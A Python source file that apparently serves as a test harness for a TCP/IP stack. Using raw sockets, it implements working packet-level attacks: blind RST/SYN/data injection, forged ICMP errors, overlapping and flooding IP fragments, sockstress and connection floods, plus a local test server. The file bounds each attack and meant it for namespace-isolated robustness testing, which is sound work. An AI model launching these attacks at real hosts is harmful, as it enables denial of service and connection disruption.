#!/usr/bin/env python3
"""Packet-level attacks for scripts/attacks.sh (stdlib only: raw sockets, IP_HDRINCL).

Run inside a network namespace that scripts/attacks.sh created; every attack is bounded by
--count packets and --secs seconds. Prints one `key=value ...` line of what it did.

  attacks.py server PORT                     Linux-side HTTP (/, /bytes/N) + discard (9)
  attacks.py ATTACK --src A --dst B [--vport P] [--count N] [--secs S] [--conns M]

ATTACKs: blind_rst blind_syn blind_data blind_ts icmp_forged (at the live tuple
A:vport > B:80; the attacker knows the 4-tuple, not the sequence numbers: it sprays random
32-bit values), ack_unsent ooo_flood urgent sockstress conn_flood (on connections it opens
itself from ports 20000-29999, so it knows their numbers), frag_overlap frag_flood.
"""
import argparse
import os
import random
import socket
import struct
import sys
import threading
import time

PORT0 = 20000  # attacker's own connections: 20000..29999 (attacks.sh drops our kernel's RSTs)
TTL = 63  # ours; attacks.sh drops RSTs of our kernel (TTL 64) from PORT0.. , not these


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def ip_hdr(src, dst, proto, payload_len, ident=0, frag=0):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident, frag, TTL, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:]


FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32


def tcp_pkt(src, dst, sport, dport, seq, ack, flags, win=65535, payload=b"", opts=b"", urp=0):
    while len(opts) % 4:
        opts += b"\x01"
    off = (20 + len(opts)) // 4
    h = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, off << 4,
                    flags, win, 0, urp) + opts
    seg = h + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(seg))
    c = csum(pseudo + seg)
    seg = seg[:16] + struct.pack("!H", c) + seg[18:]
    return ip_hdr(src, dst, 6, len(seg), random.getrandbits(16)) + seg


def raw_sender():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


class Budget:
    def __init__(self, count, secs):
        self.count, self.end, self.sent = count, time.time() + secs, 0

    def more(self):
        return self.sent < self.count and time.time() < self.end


def send(sock, dst, pkt, budget):
    try:
        sock.sendto(pkt, (dst, 0))
    except OSError:
        pass  # ENOBUFS under load: the attack goes on
    budget.sent += 1


# --- blind attacks at the live 4-tuple (random sequence numbers) -------------------------

def blind(a, kind):
    s, b = raw_sender(), Budget(a.count, a.secs)
    tsval = int(time.time() * 1000) & 0xFFFFFFFF
    while b.more():
        seq, ack = random.getrandbits(32), random.getrandbits(32)
        if kind == "rst":
            p = tcp_pkt(a.src, a.dst, a.vport, 80, seq, 0, RST, 0)
        elif kind == "syn":
            p = tcp_pkt(a.src, a.dst, a.vport, 80, seq, 0, SYN, opts=b"\x02\x04\x05\xb4")
        elif kind == "data":
            p = tcp_pkt(a.src, a.dst, a.vport, 80, seq, ack, ACK | PSH, payload=b"X" * 32)
        else:  # ts: no ACK flag, a TSval far in the future (RFC 7323 §5.3, RFC 9293 ACK check)
            opts = b"\x01\x01\x08\x0a" + struct.pack("!II", (tsval + 0x40000000) & 0xFFFFFFFF, 0)
            p = tcp_pkt(a.src, a.dst, a.vport, 80, seq, 0, PSH, payload=b"X" * 8, opts=opts)
        send(s, a.dst, p, b)
    return "sent=%d" % b.sent


def icmp_forged(a):
    """ICMP errors quoting the live tuple with random SEQ (RFC 5927 §4.1 check)."""
    s, b = raw_sender(), Budget(a.count, a.secs)
    i = 0
    while b.more():
        # The quoted datagram: the server's own segment server:80 > client:vport.
        q = struct.pack("!HHI", 80, a.vport, random.getrandbits(32))
        inner = ip_hdr(a.dst, a.src, 6, 20) + q
        typ, code, rest = [(3, 4, struct.pack("!HH", 0, 68)),  # frag needed, MTU 68
                           (3, 1, b"\0" * 4),  # host unreachable (soft error)
                           (4, 0, b"\0" * 4),  # source quench (RFC 6633: ignore)
                           (3, 3, b"\0" * 4)][i % 4]  # port unreachable (hard error)
        body = struct.pack("!BBH", typ, code, 0) + rest + inner
        body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
        send(s, a.dst, ip_hdr(a.src, a.dst, 1, len(body), random.getrandbits(16)) + body, b)
        i += 1
    return "sent=%d" % b.sent


# --- fragments ---------------------------------------------------------------------------

def frag_overlap(a):
    """ICMP echo requests in two overlapping fragments whose overlap differs (RFC 5722 for
    IPv6; Linux drops such IPv4 datagrams). A reply means it was reassembled."""
    s, b = raw_sender(), Budget(a.count, a.secs)
    i = 0
    while b.more():
        ident = i & 0xFFFF
        data = bytes(range(48))
        icmp = struct.pack("!BBHHH", 8, 0, 0, 0x4141, i & 0xFFFF) + data
        icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
        f1 = icmp[:32]  # offset 0, 32 bytes, MF
        f2 = b"\xff" * 8 + icmp[24:]  # offset 24: overlaps 8 bytes with other content
        send(s, a.dst, ip_hdr(a.src, a.dst, 1, len(f1), ident, 0x2000 | 0) + f1, b)
        send(s, a.dst, ip_hdr(a.src, a.dst, 1, len(f2), ident, 3) + f2, b)
        i += 1
    return "sent=%d datagrams=%d" % (b.sent, i)


def frag_flood(a):
    """First fragments (MF, offset 0) of datagrams that never complete, each a new ID."""
    s, b = raw_sender(), Budget(a.count, a.secs)
    payload = b"\x08\x00" + b"\0" * 1406
    i = 0
    while b.more():
        src = "%s.%d" % (a.src.rsplit(".", 1)[0], 100 + i % 100)  # spread over 100 sources
        send(s, a.dst, ip_hdr(src, a.dst, 17, len(payload), i & 0xFFFF, 0x2000) + payload, b)
        i += 1
    return "sent=%d" % b.sent


# --- attacks on connections of our own (raw handshakes) ------------------------------------

class Conns:
    """M raw connections from PORT0.. : handshake, then whatever the attack does."""

    def __init__(self, a, m, syn_win=65535):
        self.a, self.m = a, m
        self.tx = raw_sender()
        self.rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.rx.settimeout(0.05)
        self.iss = {PORT0 + i: random.getrandbits(32) for i in range(m)}
        self.peer = {}  # port -> (server ISS + 1 = our rcv_nxt, server window)
        self.syn_win = syn_win
        self.sent = {}  # port -> our SND.NXT

    def recv_loop(self, until, on_seg=None):
        while time.time() < until:
            try:
                pkt = self.rx.recv(65535)
            except socket.timeout:
                return
            ihl = (pkt[0] & 15) * 4
            if socket.inet_ntoa(pkt[12:16]) != self.a.dst:
                continue
            sport, dport, seq, ack, off, flags, win = struct.unpack("!HHIIBBH", pkt[ihl:ihl + 16])
            if sport != self.a.dport or dport not in self.iss:
                continue
            plen = len(pkt) - ihl - (off >> 4) * 4
            if flags & SYN and flags & ACK and dport not in self.peer:
                self.peer[dport] = [(seq + 1) & 0xFFFFFFFF, win]
                if on_seg:
                    on_seg(dport, "synack", seq, ack, win, plen)
            elif on_seg:
                on_seg(dport, flags, seq, ack, win, plen)

    def open(self, secs=5.0, pace=0.0005):
        a = self.a
        for port, iss in self.iss.items():
            self.tx.sendto(tcp_pkt(a.src, a.dst, port, a.dport, iss, 0, SYN, self.syn_win,
                                   opts=b"\x02\x04\x05\xb4"), (a.dst, 0))
            time.sleep(pace)
            if port % 50 == 0:
                self.recv_loop(time.time() + 0.001)
        end = time.time() + secs
        while len(self.peer) < self.m and time.time() < end:
            self.recv_loop(time.time() + 0.1)
        return len(self.peer)

    def ack(self, port, payload=b"", win=65535, flags=ACK, urp=0, seq_off=0):
        a = self.a
        rn = self.peer[port][0]
        p = tcp_pkt(a.src, a.dst, port, a.dport, self.iss[port] + 1 + seq_off, rn, flags,
                    win, payload, urp=urp)
        try:
            self.tx.sendto(p, (a.dst, 0))
        except OSError:
            pass

    def reset_all(self):
        """A RST at our own SND.NXT for each connection, so the server frees it."""
        a = self.a
        for port in self.peer:
            p = tcp_pkt(a.src, a.dst, port, a.dport, self.sent.get(port, self.iss[port] + 1), 0,
                        RST, 0)
            try:
                self.tx.sendto(p, (a.dst, 0))
            except OSError:
                pass


def own_conns(a, m, win=65535, request=b""):
    c = Conns(a, m)
    n = c.open()
    for port in list(c.peer):
        c.ack(port, request, win, ACK | (PSH if request else 0))
        c.sent[port] = c.iss[port] + 1 + len(request)
    return c, n


def sockstress(a):
    """Connections that request a large body and then advertise window 0 forever."""
    req = b"GET /bytes/10000000 HTTP/1.1\r\nHost: x\r\n\r\n"
    c, n = own_conns(a, a.conns, 0, req)
    end = time.time() + a.secs
    probes = [0]

    def on(port, flags, seq, ack, win, plen):
        if flags != "synack" and port in c.peer:
            probes[0] += 1
            c.ack(port, b"", 0, seq_off=len(req))  # answer probes: window still 0, no data taken
    while time.time() < end:
        c.recv_loop(time.time() + 0.2, on)
    c.reset_all()
    return "established=%d probes_answered=%d" % (n, probes[0])


def conn_flood(a):
    """Connections that complete the handshake and then send nothing (no state kept on
    our side but the ISS); they fill the server's tables/accept queue."""
    c, n = own_conns(a, a.conns)
    end = time.time() + a.secs
    while time.time() < end:
        c.recv_loop(time.time() + 0.2)
    c.reset_all()
    return "established=%d" % n


def one_conn(a, request=b""):
    c, n = own_conns(a, 1, 65535, request)
    if not n:
        sys.exit("attacks.py: no SYN-ACK from %s:%d" % (a.dst, a.dport))
    return c, PORT0


def ack_unsent(a):
    """ACKs far beyond SND.NXT on our own connection (RFC 9293 §3.10.7.4: ACK, drop)."""
    c, port = one_conn(a)
    b = Budget(a.count, a.secs)
    while b.more():
        p = tcp_pkt(a.src, a.dst, port, a.dport, c.sent[port], c.peer[port][0] + 1 + random.getrandbits(30), ACK)
        send(c.tx, a.dst, p, b)
    c.reset_all()
    return "sent=%d" % b.sent


def ooo_flood(a):
    """One-byte segments at every other offset above RCV.NXT, leaving a hole at RCV.NXT."""
    c, port = one_conn(a)
    b = Budget(a.count, a.secs)
    base = c.sent[port]
    k = 1
    while b.more():
        p = tcp_pkt(a.src, a.dst, port, a.dport, base + 2 * k, c.peer[port][0], ACK, payload=b"x")
        send(c.tx, a.dst, p, b)
        k = k + 1 if k < 60000 else 1  # stays within a 120 kB span (window-ish)
    c.reset_all()
    return "sent=%d" % b.sent


def urgent(a):
    """In-sequence one-byte segments to the discard port, each with URG and a random
    urgent pointer (RFC 6093: we are expected to treat urgent data as inline)."""
    c, port = one_conn(a)
    b = Budget(a.count, a.secs)
    seq = c.sent[port]
    while b.more():
        p = tcp_pkt(a.src, a.dst, port, a.dport, seq, c.peer[port][0], ACK | URG, payload=b"u",
                    urp=random.getrandbits(16))
        send(c.tx, a.dst, p, b)
        seq += 1
        if b.sent % 2000 == 0:
            time.sleep(0.02)  # stay inside the receive window
    c.sent[port] = seq
    c.reset_all()
    return "sent=%d bytes=%d" % (b.sent, seq - c.iss[port] - 1)


# --- the Linux-side server -----------------------------------------------------------------

def server(port):
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class H(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args):
            pass

        def do_GET(self):
            n = int(self.path[7:]) if self.path.startswith("/bytes/") else 6
            self.send_response(200)
            self.send_header("Content-Length", str(n))
            self.end_headers()
            chunk = b"x" * 65536
            while n > 0:
                self.wfile.write(chunk[:min(n, 65536)])
                n -= 65536

    class S(ThreadingHTTPServer):
        request_queue_size = 4096  # as tuntcp's somaxconn default
        daemon_threads = True

    def discard():
        ls = socket.socket()
        ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ls.bind(("0.0.0.0", 9))
        ls.listen(128)
        while True:
            cs, _ = ls.accept()
            threading.Thread(target=lambda s=cs: [None for _ in iter(lambda: s.recv(65536), b"")],
                             daemon=True).start()
    threading.Thread(target=discard, daemon=True).start()
    S(("0.0.0.0", port), H).serve_forever()


def main():
    if len(sys.argv) == 3 and sys.argv[1] == "server":
        return server(int(sys.argv[2]))
    p = argparse.ArgumentParser()
    p.add_argument("attack")
    p.add_argument("--src", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--dport", type=int, default=80)
    p.add_argument("--vport", type=int, default=0)
    p.add_argument("--count", type=int, default=100000)
    p.add_argument("--secs", type=float, default=10)
    p.add_argument("--conns", type=int, default=500)
    a = p.parse_args()
    random.seed(os.urandom(8))
    f = {"blind_rst": lambda: blind(a, "rst"), "blind_syn": lambda: blind(a, "syn"),
         "blind_data": lambda: blind(a, "data"), "blind_ts": lambda: blind(a, "ts"),
         "icmp_forged": lambda: icmp_forged(a), "frag_overlap": lambda: frag_overlap(a),
         "frag_flood": lambda: frag_flood(a), "sockstress": lambda: sockstress(a),
         "conn_flood": lambda: conn_flood(a), "ack_unsent": lambda: ack_unsent(a),
         "ooo_flood": lambda: ooo_flood(a), "urgent": lambda: urgent(a)}[a.attack]
    print("%s %s" % (a.attack, f()), flush=True)


if __name__ == "__main__":
    main()
